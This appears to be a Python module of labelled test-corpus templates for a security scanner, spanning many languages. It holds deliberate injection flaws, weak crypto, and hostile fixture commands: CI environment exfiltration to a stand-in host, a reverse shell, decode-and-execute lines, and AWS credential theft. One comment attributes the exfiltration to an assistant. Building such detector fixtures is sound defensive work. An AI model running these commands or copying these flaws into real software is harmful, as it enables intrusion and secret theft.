"""Corpus file templates, part B (Java, Go, C#, Ruby, PHP, C, C++, shell, docs). Markers: see part A."""

FILES = {}

FILES["java/src/main/java/com/acme/orders/OrderRepository.java"] = '''package com.acme.orders;

import java.sql.Connection;
import java.sql.PreparedStatement;
import java.sql.ResultSet;
import java.sql.SQLException;
import java.sql.Statement;

public class OrderRepository {
  private final Connection conn;

  public OrderRepository(Connection conn) {
    this.conn = conn;
  }

  public ResultSet byCustomer(String name) throws SQLException {
    Statement st = conn.createStatement();
    return st.executeQuery("SELECT * FROM orders WHERE customer = '" + name + "'");  ⟦P insecure sql-concat⟧
  }

  public ResultSet byEmail(String email) throws SQLException {
    String sql = "SELECT * FROM orders o JOIN customers c ON o.customer_id = c.id "
        + "WHERE c.email = '" + email + "'";  ⟦P insecure -⟧
    return conn.createStatement().executeQuery(sql);
  }

  public ResultSet byId(long id) throws SQLException {
    PreparedStatement ps = conn.prepareStatement("SELECT * FROM orders WHERE id = ?");  ⟦N insecure prepared statement⟧
    ps.setLong(1, id);
    return ps.executeQuery();
  }
}
'''

FILES["java/src/main/java/com/acme/orders/CryptoUtil.java"] = '''package com.acme.orders;

import java.security.KeyPairGenerator;
import java.security.MessageDigest;
import java.security.SecureRandom;
import java.util.Random;
import javax.crypto.Cipher;
import javax.crypto.spec.GCMParameterSpec;
import javax.crypto.spec.IvParameterSpec;

public final class CryptoUtil {
  public static byte[] md5(byte[] in) throws Exception {
    MessageDigest md = MessageDigest.getInstance("MD5");  ⟦P crypto java-weak-hash⟧
    return md.digest(in);
  }

  public static byte[] sha256(byte[] in) throws Exception {
    return MessageDigest.getInstance("SHA-256").digest(in);  ⟦N crypto SHA-256⟧
  }

  public static Cipher legacy() throws Exception {
    return Cipher.getInstance("DESede/CBC/PKCS5Padding");  ⟦P crypto java-weak-cipher⟧
  }

  public static Cipher simple() throws Exception {
    return Cipher.getInstance("AES");  ⟦P crypto java-ecb-mode⟧
  }

  public static Cipher modern() throws Exception {
    return Cipher.getInstance("AES/GCM/NoPadding");  ⟦N crypto GCM⟧
  }

  public static IvParameterSpec fixedIv() {
    return new IvParameterSpec(new byte[16]);  ⟦P crypto java-static-iv⟧
  }

  public static String resetToken() {
    String token = Long.toHexString(new Random().nextLong());  ⟦P crypto java-insecure-random⟧
    return token;
  }

  public static byte[] goodToken() {
    byte[] b = new byte[32];
    new SecureRandom().nextBytes(b);  ⟦N crypto SecureRandom⟧
    return b;
  }

  public static void keys() throws Exception {
    KeyPairGenerator kpg = KeyPairGenerator.getInstance("RSA");
    kpg.initialize(1024);  ⟦P crypto java-weak-rsa-key⟧
  }
}
'''

FILES["java/src/main/java/com/acme/orders/HttpConfig.java"] = '''package com.acme.orders;

import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import javax.net.ssl.HttpsURLConnection;
import javax.net.ssl.SSLContext;
import javax.net.ssl.TrustManager;

public class HttpConfig {
  static final String SLACK_TOKEN = "⟪slack-bot-token⟫";  ⟦P secret slack-bot-token⟧
  static final String GITLAB_TOKEN = "⟪gitlab-pat⟫";  ⟦P secret gitlab-pat⟧
  static final String BUILD_ID = "4b825dc642cb6eb9a060e54bf8d69288fbee4904";  ⟦N secret git tree SHA⟧

  static void insecure(TrustManager[] trustAllCerts) throws Exception {
    SSLContext sc = SSLContext.getInstance("TLS");
    sc.init(null, trustAllCerts, new java.security.SecureRandom());  ⟦P crypto java-trust-all⟧
    HttpsURLConnection.setDefaultHostnameVerifier((hostname, session) -> true);  ⟦P crypto java-trust-all⟧
  }

  static HttpRequest beacon() {
    return HttpRequest.newBuilder(URI.create("https://hooks.partner-sync.net/v1/orders")).build();  ⟦P behaviour java-egress-hardcoded-host⟧
  }

  static HttpRequest internal() {
    return HttpRequest.newBuilder(URI.create("https://api.acme.io/v1/orders")).build();  ⟦N behaviour allowed domain⟧
  }
}
'''

FILES["java/src/main/java/com/acme/orders/AdminServlet.java"] = '''package com.acme.orders;

import java.io.File;
import java.io.IOException;
import javax.servlet.http.HttpServlet;
import javax.servlet.http.HttpServletRequest;
import javax.servlet.http.HttpServletResponse;

public class AdminServlet extends HttpServlet {
  private final File baseDir = new File("/srv/reports");

  @Override
  protected void doGet(HttpServletRequest request, HttpServletResponse response) throws IOException {
    File f = new File(baseDir, request.getParameter("file"));  ⟦P insecure java-path-traversal⟧
    response.getWriter().println("Report " + request.getParameter("name"));  ⟦P insecure java-unvalidated-request-sink⟧
    Process p = Runtime.getRuntime().exec("gzip -k " + f.getPath());  ⟦P insecure java-shell-injection⟧
    Process q = new ProcessBuilder("gzip", "-k", f.getPath()).start();  ⟦N insecure argument vector⟧
  }
}
'''

FILES["java/src/main/resources/application.properties"] = '''spring.datasource.url=jdbc:postgresql://db.acme.io:5432/orders?user=orders&password=⟪{A:18}⟫  ⟦P secret jdbc-url-password⟧
spring.datasource.hikari.maximum-pool-size=10
spring.mail.password=${MAIL_PASSWORD}  ⟦N secret env reference⟧
management.endpoints.web.exposure.include=health,info
app.build.commit=9c1185a5c5e9fc54612808977ee8f548b2258d31  ⟦N secret git SHA⟧
'''

FILES["java/src/test/java/com/acme/orders/OrderRepositoryTest.java"] = '''package com.acme.orders;

import static org.junit.jupiter.api.Assertions.assertEquals;

import org.junit.jupiter.api.Test;

class OrderRepositoryTest {
  private static final String API_KEY = "test-key";  ⟦N secret fake-looking fixture⟧
  private static final String PASSWORD = "password123";  ⟦N secret fake-looking fixture⟧
  private static final String ORDER_ID = "7d3f9a2e-1b4c-4e8f-a6d2-9c0b1e3f5a7d";  ⟦N secret uuid⟧

  @Test
  void idsAreStable() {
    assertEquals(36, ORDER_ID.length());
  }
}
'''

FILES["go/cmd/agent/main.go"] = '''package main

import (
	"crypto/md5"
	"crypto/tls"
	"fmt"
	"log"
	"math/rand"
	"net/http"
	"os"
	"os/exec"
)

const githubToken = "⟪github-pat⟫"  ⟦P secret github-pat⟧
const dockerToken = "⟪docker-hub-pat⟫"  ⟦P secret docker-hub-pat⟧

var client = &http.Client{Transport: &http.Transport{TLSClientConfig: &tls.Config{InsecureSkipVerify: true}}}  ⟦P crypto go-insecure-skip-verify⟧

func fingerprint(b []byte) string {
	return fmt.Sprintf("%x", md5.Sum(b))  ⟦P crypto go-weak-hash⟧
}

func newToken() string {
	token := fmt.Sprintf("%016x", rand.Int63())  ⟦P crypto go-math-rand-token⟧
	return token
}

func backoff() int {
	return rand.Intn(500)  ⟦N crypto jitter⟧
}

func archive(name string) error {
	return exec.Command("sh", "-c", "tar czf /tmp/out.tgz "+name).Run()  ⟦P insecure go-shell-injection⟧
}

func report() {
	resp, err := http.Post("https://ingest.goagent-metrics.io/v1", "application/json", nil)  ⟦P behaviour go-egress-hardcoded-host⟧
	if err == nil {
		resp.Body.Close()
	}
	r2, err := http.Get("https://api.github.com/meta")  ⟦N behaviour allowed domain⟧
	if err == nil {
		r2.Body.Close()
	}
}

func main() {
	log.Println(os.Getenv("AGENT_MODE"))
	report()
}
'''

FILES["go/internal/store/store.go"] = '''package store

import (
	"database/sql"
	"fmt"
	"net/http"
	"path/filepath"
)

type Store struct{ db *sql.DB }

func (s *Store) ByName(name string) (*sql.Rows, error) {
	q := fmt.Sprintf("SELECT id, email FROM users WHERE name = '%s'", name)  ⟦P insecure go-sql-sprintf⟧
	return s.db.Query(q)
}

func (s *Store) ByEmail(email string) *sql.Row {
	return s.db.QueryRow("SELECT id FROM users WHERE email = $1", email)  ⟦N insecure parameterised⟧
}

func Download(w http.ResponseWriter, r *http.Request) {
	http.ServeFile(w, r, filepath.Join("/srv/files", r.URL.Query().Get("f")))  ⟦P insecure go-path-traversal⟧
}

func Hello(w http.ResponseWriter, r *http.Request) {
	fmt.Fprintf(w, "<h1>Hello %s</h1>", r.URL.Query().Get("name"))  ⟦P insecure go-unvalidated-request-sink⟧
}

const dsn = "postgres://app:⟪{A:20}⟫@pg.acme.internal:5432/app?sslmode=require"  ⟦P secret postgres-url-password⟧
'''

FILES["go/internal/keys/keys.go"] = '''package keys

import (
	"crypto/rand"
	"crypto/rsa"
	"crypto/sha256"

	"golang.org/x/crypto/ssh"
)

func Generate() (*rsa.PrivateKey, error) {
	return rsa.GenerateKey(rand.Reader, 1024)  ⟦P crypto go-weak-rsa-key⟧
}

func GenerateStrong() (*rsa.PrivateKey, error) {
	return rsa.GenerateKey(rand.Reader, 3072)  ⟦N crypto 3072 bits⟧
}

func Digest(b []byte) [32]byte {
	return sha256.Sum256(b)  ⟦N crypto SHA-256⟧
}

var Config = &ssh.ClientConfig{User: "deploy", HostKeyCallback: ssh.InsecureIgnoreHostKey()}  ⟦P crypto go-ssh-insecure-host-key⟧
'''

FILES["go/internal/keys/testdata/id_ed25519"] = '''-----BEGIN OPENSSH PRIVATE KEY-----  ⟦P secret openssh-private-key⟧
⟪{b:70}⟫
⟪{b:70}⟫
⟪{b:70}⟫
⟪{b:30}⟫==
-----END OPENSSH PRIVATE KEY-----
'''

FILES["go/internal/keys/testdata/id_ed25519.pub"] = '''ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI⟪{b:43}⟫ deploy@acme  ⟦N secret public key⟧
'''

FILES["cs/Api/Services/PaymentService.cs"] = '''using System;
using System.Data.SqlClient;
using System.Net;
using System.Net.Http;
using System.Security.Cryptography;

namespace Acme.Api.Services
{
    public class PaymentService
    {
        private const string SquareToken = "⟪square-access-token⟫";  ⟦P secret square-access-token⟧
        private const string BraintreeToken = "⟪braintree-access-token⟫";  ⟦P secret braintree-access-token⟧
        private static readonly HttpClient Client = new HttpClient();

        public static byte[] Hash(byte[] data)
        {
            using var md5 = MD5.Create();  ⟦P crypto cs-weak-hash⟧
            return md5.ComputeHash(data);
        }

        public static byte[] HashStrong(byte[] data) => SHA256.HashData(data);  ⟦N crypto SHA-256⟧

        public static SymmetricAlgorithm Legacy()
        {
            var des = TripleDES.Create();  ⟦P crypto cs-weak-cipher⟧
            des.Mode = CipherMode.ECB;  ⟦P crypto cs-ecb-mode⟧
            return des;
        }

        public static void TrustEverything()
        {
            ServicePointManager.ServerCertificateValidationCallback += (s, cert, chain, errors) => true;  ⟦P crypto cs-cert-validation-disabled⟧
        }

        public static string ResetToken()
        {
            var resetToken = new Random().Next().ToString("x8");  ⟦P crypto cs-insecure-random⟧
            return resetToken;
        }

        public static SqlCommand Find(SqlConnection conn, string name)
        {
            return new SqlCommand($"SELECT * FROM Payments WHERE Payer = '{name}'", conn);  ⟦P insecure cs-sql-interpolation⟧
        }

        public static SqlCommand FindSafe(SqlConnection conn, string name)
        {
            var cmd = new SqlCommand("SELECT * FROM Payments WHERE Payer = @name", conn);  ⟦N insecure parameterised⟧
            cmd.Parameters.AddWithValue("@name", name);
            return cmd;
        }

        public static async void Beacon()
        {
            await Client.GetStringAsync("https://cdn.dotnet-beacon.net/cfg.json");  ⟦P behaviour cs-egress-hardcoded-host⟧
        }
    }
}
'''

FILES["cs/Api/appsettings.json"] = '''{
  "ConnectionStrings": {
    "Default": "Server=sql.acme.io;Database=payments;User Id=payments;Password=⟪{A:16}⟫;",  ⟦P secret ado-connection-string-password⟧
    "Local": "Server=(localdb)\\\\mssqllocaldb;Database=payments;Trusted_Connection=True;"  ⟦N secret integrated auth⟧
  },
  "Storage": "DefaultEndpointsProtocol=https;AccountName=acmepay;AccountKey=⟪azure-storage-account-key⟫;EndpointSuffix=core.windows.net",  ⟦P secret azure-storage-account-key⟧
  "AzureAd": {
    "ClientSecret": "⟪azure-ad-client-secret⟫",  ⟦P secret azure-ad-client-secret⟧
    "TenantId": "72f988bf-86f1-41af-91ab-2d7cd011db47"  ⟦N secret tenant id is an identifier⟧
  },
  "Logging": { "LogLevel": { "Default": "Information" } }
}
'''

FILES["cs/Api/Controllers/FilesController.cs"] = '''using System.Diagnostics;
using System.IO;
using Microsoft.AspNetCore.Mvc;

namespace Acme.Api.Controllers
{
    public class FilesController : Controller
    {
        private readonly string root = "/srv/files";

        public IActionResult Get()
        {
            var bytes = File.ReadAllBytes(Path.Combine(root, Request.Query["name"]));  ⟦P insecure cs-path-traversal⟧
            return File(bytes, "application/octet-stream");
        }

        public IActionResult Ping(string host)
        {
            Process.Start("cmd.exe", "/c ping " + host);  ⟦P insecure cs-shell-injection⟧
            Process.Start("git", "status");  ⟦N insecure fixed arguments⟧
            return Ok();
        }
    }
}
'''

FILES["rb/app/controllers/users_controller.rb"] = '''class UsersController < ApplicationController
  def index
    @users = User.where("email = '#{params[:email]}'")  ⟦P insecure rb-sql-interpolation⟧
    @safe = User.where(email: params[:email])  ⟦N insecure hash conditions⟧
  end

  def export
    system("tar czf /tmp/export.tgz #{params[:dir]}")  ⟦P insecure rb-shell-injection⟧
    send_file File.join(Rails.root, "exports", params[:name])  ⟦P insecure rb-path-traversal⟧
  end

  def calc
    render plain: eval(params[:expr]).to_s  ⟦P insecure rb-eval-input⟧
  end
end
'''

FILES["rb/lib/token_helper.rb"] = '''require "digest"
require "net/http"
require "openssl"
require "securerandom"

module TokenHelper
  TRAVIS_TOKEN = "⟪travis-ci-token⟫"  ⟦P secret travis-ci-token⟧
  RUBYGEMS_KEY = "⟪rubygems-api-key⟫"  ⟦P secret rubygems-api-key⟧

  def self.password_digest(pw)
    Digest::MD5.hexdigest(pw)  ⟦P crypto rb-weak-hash⟧
  end

  def self.reset_token
    reset_token = rand(36**32).to_s(36)  ⟦P crypto rb-insecure-random⟧
  end

  def self.good_token
    SecureRandom.hex(32)  ⟦N crypto SecureRandom⟧
  end

  def self.legacy_cipher
    OpenSSL::Cipher.new("des-ede3-cbc")  ⟦P crypto rb-weak-cipher⟧
  end

  def self.http
    http = Net::HTTP.new("internal.acme.io", 443)  ⟦N behaviour allowed domain⟧
    http.use_ssl = true
    http.verify_mode = OpenSSL::SSL::VERIFY_NONE  ⟦P crypto rb-verify-none⟧
    http
  end

  def self.phone_home(data)
    Net::HTTP.post(URI("https://stats.gem-insights.io/c"), data)  ⟦P behaviour rb-egress-hardcoded-host⟧
  end
end
'''

FILES["rb/config/database.yml"] = '''default: &default
  adapter: postgresql
  pool: 5
  password: <%= ENV["DATABASE_PASSWORD"] %>  ⟦N secret ERB env lookup⟧

production:
  <<: *default
  url: postgres://rails:⟪{A:20}⟫@pg.acme.io/app_production  ⟦P secret postgres-url-password⟧
'''

FILES["php/public/index.php"] = '''<?php
require __DIR__ . "/../vendor/autoload.php";  ⟦N insecure constant include⟧

$db = new mysqli("db.acme.io", "shop", getenv("DB_PASSWORD"), "shop");
$id = $_GET["id"];
$r = mysqli_query($db, "SELECT * FROM products WHERE id = " . $_GET["id"]);  ⟦P insecure php-sql-interpolation⟧
$st = $db->prepare("SELECT * FROM products WHERE sku = ?");  ⟦N insecure prepared statement⟧
include($_GET["page"] . ".php");  ⟦P insecure php-file-inclusion⟧
echo "Hello " . $_GET["name"];  ⟦P insecure php-unvalidated-output⟧
echo htmlspecialchars($_GET["q"], ENT_QUOTES);  ⟦N insecure escaped output⟧
$out = shell_exec("convert " . $_GET["img"] . " out.png");  ⟦P insecure php-shell-injection⟧
eval($_POST["code"]);  ⟦P insecure php-eval-input⟧
'''

FILES["php/src/Auth.php"] = '''<?php
namespace Acme\\Shop;

class Auth
{
    const MAILGUN_KEY = "⟪mailgun-api-key⟫";  ⟦P secret mailgun-api-key⟧
    const TWILIO_AUTH_TOKEN = "⟪twilio-auth-token⟫";  ⟦P secret twilio-auth-token⟧

    public static function hash($password)
    {
        return md5($password);  ⟦P crypto php-weak-password-hash⟧
    }

    public static function hashGood($password)
    {
        return password_hash($password, PASSWORD_ARGON2ID);  ⟦N crypto Argon2id⟧
    }

    public static function etag($body)
    {
        return md5($body);  ⟦N crypto ETag⟧
    }

    public static function resetToken()
    {
        $resetToken = md5(uniqid(mt_rand(), true));  ⟦P crypto php-insecure-random⟧
        return $resetToken;
    }

    public static function encrypt($data, $key, $iv)
    {
        return openssl_encrypt($data, "des-ede3-cbc", $key, 0, $iv);  ⟦P crypto php-openssl-weak-cipher⟧
    }

    public static function fetch($url)
    {
        $ch = curl_init($url);
        curl_setopt($ch, CURLOPT_SSL_VERIFYPEER, false);  ⟦P crypto php-curl-verify-disabled⟧
        return curl_exec($ch);
    }
}
'''

FILES["php/src/Updater.php"] = '''<?php
$ch = curl_init("https://gate.phpupdate-cdn.org/check");  ⟦P behaviour php-egress-hardcoded-host⟧
$cfg = file_get_contents(__DIR__ . "/config.json");  ⟦N behaviour local file⟧
$payload = "ZWNobyAnaGknOw==";
eval(base64_decode($payload));  ⟦P behaviour php-decode-exec⟧
'''

FILES["c/src/crypto.c"] = '''#include <openssl/evp.h>
#include <openssl/md5.h>
#include <openssl/rand.h>
#include <openssl/rsa.h>
#include <openssl/ssl.h>
#include <stdlib.h>
#include <string.h>

static const unsigned char iv[16] = {0x00, 0x01, 0x02, 0x03, 0x04, 0x05, 0x06, 0x07};  ⟦P crypto c-static-iv⟧

int digest_md5(const unsigned char *buf, size_t len, unsigned char *out) {
  EVP_MD_CTX *ctx = EVP_MD_CTX_new();
  EVP_DigestInit_ex(ctx, EVP_md5(), NULL);  ⟦P crypto c-openssl-weak-hash⟧
  EVP_DigestUpdate(ctx, buf, len);
  return EVP_DigestFinal_ex(ctx, out, NULL);
}

int digest_sha256(const unsigned char *buf, size_t len, unsigned char *out) {
  EVP_MD_CTX *ctx = EVP_MD_CTX_new();
  EVP_DigestInit_ex(ctx, EVP_sha256(), NULL);  ⟦N crypto SHA-256⟧
  EVP_DigestUpdate(ctx, buf, len);
  return EVP_DigestFinal_ex(ctx, out, NULL);
}

int encrypt_legacy(EVP_CIPHER_CTX *ctx, const unsigned char *key) {
  return EVP_EncryptInit_ex(ctx, EVP_des_ede3_cbc(), NULL, key, iv);  ⟦P crypto c-openssl-weak-cipher⟧
}

int encrypt_blocks(EVP_CIPHER_CTX *ctx, const unsigned char *key) {
  return EVP_EncryptInit_ex(ctx, EVP_aes_128_ecb(), NULL, key, NULL);  ⟦P crypto c-openssl-ecb⟧
}

int encrypt_good(EVP_CIPHER_CTX *ctx, const unsigned char *key, unsigned char *nonce) {
  RAND_bytes(nonce, 12);  ⟦N crypto CSPRNG⟧
  return EVP_EncryptInit_ex(ctx, EVP_aes_256_gcm(), NULL, key, nonce);  ⟦N crypto GCM⟧
}

void make_key(unsigned char *key, size_t n) {
  for (size_t i = 0; i < n; i++) {
    key[i] = rand() % 256;  ⟦P crypto c-insecure-rand-secret⟧
  }
}

int dice(void) {
  return rand() % 6 + 1;  ⟦N crypto game randomness⟧
}

EVP_PKEY *weak_rsa(void) {
  EVP_PKEY_CTX *kctx = EVP_PKEY_CTX_new_id(EVP_PKEY_RSA, NULL);
  EVP_PKEY_keygen_init(kctx);
  EVP_PKEY_CTX_set_rsa_keygen_bits(kctx, 1024);  ⟦P crypto c-openssl-small-rsa⟧
  EVP_PKEY *pkey = NULL;
  EVP_PKEY_keygen(kctx, &pkey);
  return pkey;
}

void no_verify(SSL_CTX *ctx) {
  SSL_CTX_set_verify(ctx, SSL_VERIFY_NONE, NULL);  ⟦P crypto c-openssl-verify-none⟧
}
'''

FILES["c/src/net.c"] = '''#include <curl/curl.h>
#include <netdb.h>
#include <stdio.h>
#include <stdlib.h>

static const char *API_TOKEN = "⟪gitlab-runner-auth-token⟫";  ⟦P secret gitlab-runner-auth-token⟧

int fetch_update(void) {
  CURL *curl = curl_easy_init();
  curl_easy_setopt(curl, CURLOPT_URL, "https://upd.firmware-cdn.net/v2/check");  ⟦P behaviour c-egress-hardcoded-host⟧
  curl_easy_setopt(curl, CURLOPT_SSL_VERIFYPEER, 0L);  ⟦P crypto c-curl-verify-disabled⟧
  curl_easy_setopt(curl, CURLOPT_SSL_VERIFYHOST, 2L);  ⟦N crypto verification on⟧
  CURLcode rc = curl_easy_perform(curl);
  curl_easy_cleanup(curl);
  return rc == CURLE_OK ? 0 : -1;
}

int resolve_local(struct addrinfo **res) {
  struct addrinfo hints = {0};
  return getaddrinfo("localhost", "8080", &hints, res);  ⟦N behaviour localhost⟧
}

int run_hook(const char *cmdline) {
  char cmd[512];
  snprintf(cmd, sizeof cmd, "/usr/lib/acme/hook %s", cmdline);
  return system(cmd);  ⟦P insecure c-shell-injection⟧
}

int sync_disk(void) {
  return system("sync");  ⟦N insecure literal command⟧
}

int find_user(char *q, size_t n, const char *name) {
  return snprintf(q, n, "SELECT * FROM users WHERE name = '%s'", name);  ⟦P insecure c-sql-sprintf⟧
}
'''

FILES["c/src/sodium_box.c"] = '''#include <sodium.h>
#include <string.h>

static const unsigned char nonce[crypto_secretbox_NONCEBYTES] = {0};  ⟦P crypto c-libsodium-constant-nonce⟧

int seal(unsigned char *c, const unsigned char *m, unsigned long long mlen, const unsigned char *k) {
  return crypto_secretbox_easy(c, m, mlen, nonce, k);
}

int seal_good(unsigned char *c, unsigned char *n, const unsigned char *m, unsigned long long mlen,
              const unsigned char *k) {
  randombytes_buf(n, crypto_secretbox_NONCEBYTES);  ⟦N crypto random nonce⟧
  return crypto_secretbox_easy(c, m, mlen, n, k);
}
'''

FILES["c/src/mbed.c"] = '''#include <mbedtls/des.h>
#include <mbedtls/md.h>
#include <mbedtls/md5.h>
#include <mbedtls/ssl.h>

void legacy_digest(const unsigned char *in, size_t len, unsigned char out[16]) {
  mbedtls_md5_context ctx;
  mbedtls_md5_init(&ctx);  ⟦P crypto c-mbedtls-weak⟧
  mbedtls_md5_update(&ctx, in, len);  ⟦P crypto c-mbedtls-weak⟧
  mbedtls_md5_finish(&ctx, out);  ⟦P crypto c-mbedtls-weak⟧
}

const mbedtls_md_info_t *good_md(void) {
  return mbedtls_md_info_from_type(MBEDTLS_MD_SHA256);  ⟦N crypto SHA-256⟧
}

void lax(mbedtls_ssl_config *conf) {
  mbedtls_ssl_conf_authmode(conf, MBEDTLS_SSL_VERIFY_NONE);  ⟦P crypto c-mbedtls-verify-none⟧
}
'''

FILES["c/tests/test_vectors.c"] = '''/* Known-answer tests: these hex strings are public test vectors, not secrets. */
static const char *kSha256Empty = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855";  ⟦N secret test vector⟧
static const char *kAesKey = "000102030405060708090a0b0c0d0e0f";  ⟦N secret test vector⟧
static const char *kHmacKey = "0b0b0b0b0b0b0b0b0b0b0b0b0b0b0b0b0b0b0b0b";  ⟦N secret test vector⟧
static const char *kUuid = "123e4567-e89b-12d3-a456-426614174000";  ⟦N secret uuid⟧
'''

FILES["cpp/src/legacy_crypto.cc"] = '''#include <botan/cipher_mode.h>
#include <botan/hash.h>
#include <cryptopp/des.h>
#include <cryptopp/md5.h>
#include <cryptopp/modes.h>

#include <cstdlib>
#include <memory>
#include <string>

std::string Md5Hex(const std::string& in) {
  CryptoPP::Weak::MD5 hash;  ⟦P crypto cpp-cryptopp-weak⟧
  std::string out(16, '\\0');
  hash.CalculateDigest(reinterpret_cast<CryptoPP::byte*>(&out[0]),
                       reinterpret_cast<const CryptoPP::byte*>(in.data()), in.size());
  return out;
}

void EncryptEcb() {
  CryptoPP::ECB_Mode<CryptoPP::AES>::Encryption enc;  ⟦P crypto cpp-cryptopp-weak⟧
  CryptoPP::GCM<CryptoPP::AES>::Encryption good;  ⟦N crypto GCM⟧
}

std::unique_ptr<Botan::HashFunction> LegacyHash() {
  return Botan::HashFunction::create_or_throw("SHA-1");  ⟦P crypto cpp-botan-weak⟧
}

std::unique_ptr<Botan::HashFunction> GoodHash() {
  return Botan::HashFunction::create_or_throw("SHA-256");  ⟦N crypto SHA-256⟧
}

auto LegacyCipher() {
  return Botan::Cipher_Mode::create("DES/CBC/PKCS7", Botan::Cipher_Dir::Encryption);  ⟦P crypto cpp-botan-weak⟧
}

unsigned SessionSeed() {
  unsigned session_id = std::rand();  ⟦P crypto c-insecure-rand-secret⟧
  return session_id;
}
'''

FILES["cpp/src/uploader.cc"] = '''#include <curl/curl.h>

#include <cstdio>
#include <fstream>
#include <sstream>
#include <string>

namespace {
constexpr char kDatadogKey[] = "⟪{h:32}⟫";  ⟦P secret datadog-api-key⟧
constexpr char kBuildDigest[] = "⟪{h:32}⟫";  ⟦N secret hex digest with no credential context⟧
constexpr char kSentry[] = "⟪sentry-org-token⟫";  ⟦P secret sentry-org-token⟧
}  // namespace

std::string ReadCreds() {
  std::ifstream in(std::string(std::getenv("HOME")) + "/.aws/credentials");  ⟦P behaviour credential-file-read-send⟧
  std::stringstream ss;
  ss << in.rdbuf();
  CURL* c = curl_easy_init();
  curl_easy_setopt(c, CURLOPT_POSTFIELDS, ss.str().c_str());
  curl_easy_perform(c);
  return ss.str();
}
'''

FILES["cpp/include/acme/config.h"] = '''#pragma once
// Build configuration. Values here are public identifiers, not secrets.
#define ACME_GIT_SHA "a94a8fe5ccb19ba61c4c0873d391e987982fbbd3"  ⟦N secret git SHA⟧
#define ACME_BUILD_UUID "f47ac10b-58cc-4372-a567-0e02b2c3d479"  ⟦N secret uuid⟧
#define ACME_TELEMETRY_HOST "telemetry.acme.io"
'''

FILES["sh/deploy.sh"] = '''#!/usr/bin/env bash
set -euo pipefail

export HEROKU_API_KEY="⟪heroku-api-key⟫"  ⟦P secret heroku-api-key⟧
export CLOUDFLARE_API_TOKEN="⟪cloudflare-api-token⟫"  ⟦P secret cloudflare-api-token⟧
export DATABRICKS_TOKEN="⟪databricks-token⟫"  ⟦P secret databricks-token⟧
export VAULT_TOKEN="⟪hashicorp-vault-token⟫"  ⟦P secret hashicorp-vault-token⟧
export GITHUB_TOKEN="${GITHUB_TOKEN:?set GITHUB_TOKEN}"  ⟦N secret env reference⟧

curl -fsS http://localhost:8080/healthz  ⟦N behaviour localhost⟧
curl -fsS -X POST https://beacon.deploy-stats.io/v1/ping -d "host=$(hostname)"  ⟦P behaviour shell-egress-hardcoded-host⟧
curl -fsS "https://api.acme.io/v1/deploys" -H "Authorization: Bearer $GITHUB_TOKEN"  ⟦N behaviour allowed domain⟧
echo ZWNobyBoZWxsbwo= | base64 -d | sh  ⟦P behaviour shell-decode-exec⟧
echo "$TLS_CERT_B64" | base64 -d > /etc/ssl/private/acme.pem  ⟦N behaviour decode to a file⟧
curl -fsSL -o /tmp/install.sh https://get.acme.io/install.sh  ⟦N behaviour download only⟧
sha256sum -c /tmp/install.sh.sha256
export NODE_TLS_REJECT_UNAUTHORIZED=0  ⟦P crypto js-tls-reject-unauthorized⟧
'''

FILES["sh/ci/collect.sh"] = '''#!/bin/sh
# "diagnostics" step added by an assistant; exfiltrates the CI environment.
env | curl -s -X POST --data-binary @- https://drop.ci-diag.cc/u  ⟦P behaviour env-dump-send⟧
security find-generic-password -s "CI Keychain" -w  ⟦P behaviour keychain-read⟧
bash -i >& /dev/tcp/198.51.100.77/4444 0>&1  ⟦P behaviour reverse-shell⟧
nc -z db.internal 5432  ⟦N behaviour port check on internal host⟧
'''

FILES["sh/windows/setup.ps1"] = '''$ErrorActionPreference = "Stop"
Write-Host "Installing build tools"
powershell.exe -NoProfile -WindowStyle Hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA  ⟦P behaviour powershell-encoded-command⟧
powershell -File .\\build.ps1 -Configuration Release  ⟦N behaviour plain script⟧
'''

FILES["sh/keys/deploy_key.pem"] = '''-----BEGIN RSA PRIVATE KEY-----  ⟦P secret rsa-private-key⟧
⟪{b:64}⟫
⟪{b:64}⟫
⟪{b:64}⟫
⟪{b:64}⟫
⟪{b:40}⟫
-----END RSA PRIVATE KEY-----
'''

FILES["sh/keys/ca.pem"] = '''-----BEGIN CERTIFICATE-----  ⟦N secret certificates are public⟧
MIIC⟪{b:60}⟫
⟪{b:64}⟫
⟪{b:64}⟫
-----END CERTIFICATE-----
-----BEGIN PUBLIC KEY-----  ⟦N secret public key⟧
MIIB⟪{b:60}⟫
-----END PUBLIC KEY-----
'''

FILES["docs/README.md"] = '''# Acme platform

## Configuration

Set your keys in the environment, for example:

```sh
export AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE  ⟦N secret documented example key⟧
export AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY  ⟦N secret documented example key⟧
export OPENAI_API_KEY="sk-proj-..."  ⟦N secret elided key⟧
export ANTHROPIC_API_KEY=<your-anthropic-key>  ⟦N secret placeholder⟧
export STRIPE_SECRET_KEY=sk_live_xxxxxxxxxxxxxxxxxxxxxxxx  ⟦N secret placeholder⟧
```

Connect with `postgresql://USER:PASSWORD@HOST:5432/DB`.  ⟦N secret placeholder URL⟧

A private key file starts with `-----BEGIN RSA PRIVATE KEY-----` and must never be committed.  ⟦N secret prose mention⟧

Install the CLI with `curl -fsSL https://get.toolhub.dev/cli | sh`.  ⟦N behaviour documentation, not executed⟧
'''

FILES["docs/CHANGELOG.md"] = '''# Changelog

## 2.3.1
- Fix token refresh race (9fceb02d0ae598e95dc970b74767f19372d61af8)  ⟦N secret git SHA⟧
- Rotate leaked key; see incident 2024-05-02 (e83c5163316f89bfbde7d9ab23ca2e25604af290)  ⟦N secret git SHA⟧
- Bump express to 4.19.2 (sha512 integrity updated)

## 2.3.0
- New `apiKey` option; pass it as `new Client({ apiKey: process.env.ACME_API_KEY })`.  ⟦N secret env lookup⟧
'''

FILES["docs/integrations.md"] = '''# Integrations (internal)

Paste these into the vault, then delete this file.

- Telegram bot: `⟪telegram-bot-token⟫`  ⟦P secret telegram-bot-token⟧
- Postman: ⟪postman-api-key⟫  ⟦P secret postman-api-key⟧
- Atlassian: ⟪atlassian-api-token⟫  ⟦P secret atlassian-api-token⟧
- Shopify admin: ⟪shopify-access-token⟫  ⟦P secret shopify-access-token⟧
